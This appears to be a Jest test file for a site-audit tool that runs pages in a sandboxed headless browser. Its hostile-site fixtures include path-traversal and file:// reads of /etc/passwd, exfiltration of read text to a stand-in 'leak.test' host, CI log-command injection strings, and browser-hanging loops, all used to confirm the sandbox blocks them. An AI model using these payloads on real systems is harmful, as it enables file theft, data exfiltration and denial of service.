import { describe, expect, test } from '@jest/globals';
import { createSocket } from 'node:dgram';
import { rmSync, symlinkSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { findViolations } from '../../scripts/policy-violations.ts';
import { findBrowser } from '../../src/audit/browser/find.ts';
import { runAudit, type AuditRun } from '../support/run-audit.ts';
import { withSite, writeSite } from '../support/site-folder.ts';

const program = findBrowser(process.env);
if (program === undefined)
  process.stdout.write('No Chrome or Chromium on this machine: the tests of the browser are skipped.\n');
const inBrowser = program === undefined ? test.skip : test;

const html = (body: string): string => `<!doctype html>\n<title>t</title>\n${body}`;
const audit = (
  files: Readonly<Record<string, string>>,
  inputs: Readonly<Record<string, string>> = {},
): Promise<AuditRun> => withSite(files, (path) => runAudit(path, { inputs: { browser: 'true', ...inputs } }));

describe('the proof', () => {
  inBrowser('adds what only the browser shows, and explains what the scan knows', async () => {
    const run = await audit({
      'index.html': html('<img src="https://e.test/known.png"><script src=a.js></script>'),
      'a.js':
        'const host = ["e", "test"].join("."); fetch("https:" + "//" + host + "/built.json"); new Image().src = "https://lit.test/a.png";',
    });
    expect(run.report?.browser).toMatchObject({
      pages: 1,
      unexplained: [{ url: 'https://e.test/built.json', kind: 'fetch', pages: ['index.html'] }],
    });
    expect(run.report?.requests.map(({ url, class: name }) => [url, name])).toEqual([
      ['https://e.test/built.json', 'required'],
      ['https://e.test/known.png', 'required'],
      ['https://lit.test/a.png', 'required'],
    ]);
    expect(run.hasPicture).toBe(true);
    expect(run.leftBehind).toEqual([]);
  });

  inBrowser('says which pages stay blank while a host does not answer', async () => {
    const run = await audit({ 'index.html': html('<link rel=stylesheet href="https://fonts.test/a.css"><p>text') });
    expect(run.summary).toContain('1 page remained blank while other hosts did not respond');
  });

  inBrowser('takes the public URL of the site for the site', async () => {
    const run = await audit(
      { 'index.html': html('<img src="https://docs.test/a.png">'), 'a.png': 'x' },
      { 'site-url': 'https://docs.test/' },
    );
    expect(run.report?.browser).toMatchObject({ requests: [], unexplained: [] });
    expect(run.outputs['verdict']).toBe('self-contained');
  });
});

describe('a hostile site', () => {
  inBrowser('reaches nothing outside of the browser', async () => {
    const reached: string[] = [];
    const server = createServer((request, response) => {
      reached.push(request.url ?? '');
      response.end();
    });
    const socket = createSocket('udp4');
    socket.on('message', () => reached.push('udp'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    const udp = socket.address().port;
    const run = await audit({
      'index.html':
        html(`<iframe src="http://127.0.0.1:${port}/frame"></iframe><iframe src="file:///etc/passwd"></iframe>
<script>
fetch("http://127.0.0.1:${port}/fetch").catch(() => 0);
fetch("http://localhost:${port}/local").catch(() => 0);
fetch("http://[::1]:${port}/six").catch(() => 0);
navigator.sendBeacon("http://127.0.0.1:${port}/beacon", "x");
try { new WebSocket("ws://127.0.0.1:${port}/socket"); } catch {}
try { const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] }); c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o)); } catch {}
window.open("http://127.0.0.1:${port}/popup");
navigator.serviceWorker.register("sw.js").catch(() => 0);
const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "evil.txt"; document.body.append(a); a.click();
</script>`),
      'sw.js': `self.addEventListener("install", () => fetch("http://127.0.0.1:${port}/worker"));`,
    });
    server.close();
    socket.close();
    expect(reached).toEqual([]);
    expect(run.outputs['verdict']).toBe('needs-network');
    expect(run.leftBehind).toEqual([]);
  });

  inBrowser('reads no file outside of its folder', async () => {
    const outside = writeSite({ 'secret.txt': 'the-secret' });
    const script = `
const paths = ["link.txt", "/..%2f..%2f..%2f..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "file:///etc/passwd", "file://${outside}/secret.txt", "inside.txt"];
for (const path of paths)
  fetch(path).then((answer) => (answer.ok ? answer.text() : "")).then((text) => { if (text !== "") new Image().src = "https://leak.test/?" + encodeURIComponent(text); }).catch(() => 0);`;
    const run = await withSite({ 'index.html': html(`<script>${script}</script>`), 'inside.txt': 'inside' }, (path) => {
      symlinkSync(join(outside, 'secret.txt'), join(path, 'link.txt'));
      return runAudit(path, { inputs: { browser: 'true' } });
    });
    rmSync(outside, { recursive: true });
    expect(run.report?.browser?.requests.map(({ url }) => url)).toEqual(['https://leak.test/?inside']);
  });

  inBrowser('puts nothing but text into log, summary and outputs', async () => {
    const evil = '\\n::error::injected\\n##[error]injected <b>@team</b>';
    const run = await audit({
      'index.html': html(
        `<script>console.log("${evil}"); document.title = "${evil}"; history.replaceState(0, "", "/${evil}");
fetch("https://e.test/" + encodeURI("${evil}") + "?${evil}").catch(() => 0);
new WebSocket("wss://w.test/" + encodeURIComponent("${evil}")); location.hash = "${evil}"; throw new Error("${evil}");</script>`,
      ),
    });
    expect(run.report?.browser?.requests.map(({ url }) => new URL(url).host)).toEqual(['e.test', 'w.test']);
    expect(
      run.stdout
        .split('\n')
        .filter((line) => /^::(?!debug::|warning title=Browser without|error title=Site)/.test(line)),
    ).toEqual([]);
    expect(run.stdout).not.toContain('##[error]');
    expect(run.summary).not.toMatch(/<b>|@team|##\[|^::/m);
    expect(Object.values(run.outputs).join(' ')).not.toContain('injected');
  });

  inBrowser('does not hold up the audit', async () => {
    const run = await audit(
      {
        'a.html': html('<script>for (;;);</script>'),
        'b.html': html(
          '<script>alert(1); confirm(2); prompt(3); print(); onbeforeunload = () => "stay"; fetch("https://e.test/b").catch(() => 0)</script>',
        ),
        'c.html': html('<script>(function again() { location.reload() })()</script>'),
        'd.html': html(
          '<script>document.write("<p>".repeat(1e6)); history.pushState(0, "", "/x"); location.href = "c.html"</script>',
        ),
        'e.html': html(
          '<script>const wait = () => { const all = []; for (;;) all.push(new Array(1e6).fill(1)); }; onbeforeunload = wait; onpagehide = wait;</script>',
        ),
        'f.html': html(
          '<iframe src="f.html?1"></iframe><script>onunload = () => { for (;;); }; setInterval(() => fetch("x" + Math.random()), 1);</script>',
        ),
        'g.html': html(
          '<meta http-equiv=refresh content="0;url=g.html"><script>window.stop(); for (let i = 0; i < 50; i++) window.open("g.html");</script>',
        ),
        'index.html': html('<img src="https://e.test/a.png">'),
      },
      { 'fail-on': 'never' },
    );
    expect(run.exitCode).toBe(0);
    expect(run.report?.browser?.requests.map(({ url }) => url)).toContain('https://e.test/a.png');
    expect(run.leftBehind).toEqual([]);
  });
});

describe('the Content-Security-Policy', () => {
  const module = Buffer.from('0061736d01000000', 'hex').toString('base64');
  const scripts = `<script type=importmap>{"imports":{"lib":"./lib.js"}}</script>
<script>\r\n document.title = "one";\r\n eval("1"); fetch("data.json"); </script>
<script type=module>import "lib"; new Worker("worker.js"); new Worker(URL.createObjectURL(new Blob(["1"])));
WebAssembly.compile(Uint8Array.from(atob("${module}"), (c) => c.charCodeAt(0)));
document.body.append(Object.assign(document.createElement("p"), { style: "color: red" }));
document.body.insertAdjacentHTML("beforeend", "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' style='color: red'>");</script>`;
  const site = {
    'index.html': html(
      `<link rel=stylesheet href=a.css><link rel=icon href=data:,><style>p { color: green }</style>${scripts}<p style="color: blue">x
<iframe src=frame.html></iframe><iframe srcdoc="<script>document.title = 'inner'</script><p>y"></iframe>
<video src="data:video/mp4,x"></video><object data=a.svg></object><img src="https://e.test/a.png">`,
    ),
    'frame.html': html('<p>z'),
    'a.css': '@font-face { font-family: a; src: url(data:font/woff2;base64,AA) } p { font-family: a }',
    'a.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>',
    'lib.js': 'export {};',
    'worker.js': '1',
    'data.json': '{}',
  };
  const check = (files: Readonly<Record<string, string>>, policy?: string): Promise<[string, string[]]> =>
    withSite(files, async (path) => {
      const header = policy ?? (await runAudit(path)).outputs['contentSecurityPolicy'] ?? '';
      return [header, await findViolations(path, header, ['index.html'])];
    });

  inBrowser('blocks nothing of the site', async () => {
    const [policy, violations] = await check(site);
    expect(violations).toEqual([]);
    expect(policy).toMatch(/^default-src 'none'; script-src 'self' 'sha256-/);
    expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
  });

  inBrowser('blocks nothing of a site with event handlers', async () => {
    const files = { 'index.html': html('<body onload="document.title = 1"><script>document.title = 2</script>') };
    const [policy, violations] = await check(files);
    expect(violations).toEqual([]);
    expect(policy).toContain("script-src 'self' 'unsafe-inline'");
  });

  inBrowser('is one of which a violation would be seen', async () => {
    const [, violations] = await check(site, "default-src 'self'");
    expect(violations.map((line) => line.replace(/^index\.html: (\S+) blocks (\S+).*$/s, '$1 $2'))).toEqual(
      expect.arrayContaining(['script-src-elem inline', 'style-src-attr inline', 'img-src data', 'font-src data']),
    );
  });
});

describe('without a browser', () => {
  const environment = { PATH: '/nowhere', CHROME_PATH: '', CHROME_BIN: '' };

  test('`auto` rests on the scan alone, `true` is an error', async () => {
    const files = { 'index.html': html('x') };
    const auto = await withSite(files, (path) => runAudit(path, { inputs: { browser: 'auto' }, environment }));
    expect([auto.exitCode, auto.report?.browser]).toEqual([0, undefined]);
    const required = await withSite(files, (path) => runAudit(path, { inputs: { browser: 'true' }, environment }));
    expect(required.outputs['errorCode']).toBe('browser-unavailable');
  });

  test('a program that is no browser is a warning with `auto`', async () => {
    const run = await withSite({ 'index.html': html('x') }, (path) =>
      runAudit(path, { inputs: { browser: 'auto' }, environment: { ...environment, CHROME_PATH: process.execPath } }),
    );
    expect(run.exitCode).toBe(0);
    expect(run.stdout).toContain('::warning title=Browser not used::');
    expect(run.leftBehind).toEqual([]);
  });
});
